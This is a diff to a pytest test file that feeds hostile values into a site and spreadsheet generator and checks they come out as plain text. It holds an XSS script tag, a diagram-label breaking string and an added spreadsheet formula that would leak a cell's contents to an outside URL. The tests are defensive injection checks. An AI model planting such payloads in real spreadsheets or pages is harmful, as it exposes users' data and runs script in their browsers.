@@ -27,6 +27,8 @@ PAYLOADS = [
 # mkdocs.yml's nav marker in a region's name: it must not end the generated block
 NAME = f"Омская область {MARK} {NAV_END} <script>alert(6)</script>"
 SHORT = f"{MARK}ЦНТР\" ] -> n_ministry; x [label=\"<b>"
+# a formula a spreadsheet would run, as a task's text: the matrix must hold it as text
+FORMULA = f'=HYPERLINK("http://example.org/?leak="&A1,"{MARK}6")'
 
 
 @pytest.fixture(scope="module")
@@ -41,7 +43,7 @@ def hostile_site(tmp_path_factory):
                      "functions": [PAYLOADS[1], PAYLOADS[2]]})
     regional[0]["functions"].append(f"взаимодействует с {SHORT}")
     data["system"].setdefault("glossary", []).append({"term": PAYLOADS[3], "definition": PAYLOADS[4]})
-    data["system"]["tasks"].append(PAYLOADS[2])
+    data["system"]["tasks"] += [PAYLOADS[2], FORMULA]
     data["roadmap"]["directions"][0]["items"][0]["activity"] += " " + PAYLOADS[0]
     case.save(data)
     result = case.run("build", timeout=900)
@@ -71,6 +73,21 @@ def test_the_payloads_are_shown_literally(hostile_site):
     assert squash(NAME) in squash(scan_html(home, MARK)[1])
     title = re.search(r"<title>(.*?)</title>", (site / "regions/omsk/index.html").read_text(encoding="utf-8"), re.S)
     assert "&lt;script&gt;alert(6)&lt;/script&gt;" in title.group(1)
+
+
+def test_the_matrix_holds_a_formula_typed_in_a_profile_as_text(hostile_site):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    path = hostile_site.root / "build" / "compare" / "matrix.xlsx"
+    added = load_workbook(path)["Добавлено регионами"]
+    cells = [c for row in added.iter_rows() for c in row    # as the acts typeset it: «» quotes
+             if isinstance(c.value, str) and c.value.startswith("=HYPERLINK(") and f"{MARK}6" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
+    with zipfile.ZipFile(path) as book:
+        assert not any(b"<f>" in book.read(name) or b"<f " in book.read(name)
+                       for name in book.namelist() if name.startswith("xl/worksheets/"))
 
 
 def test_the_diagram_labels_hold_the_short_name_as_text(hostile_site):
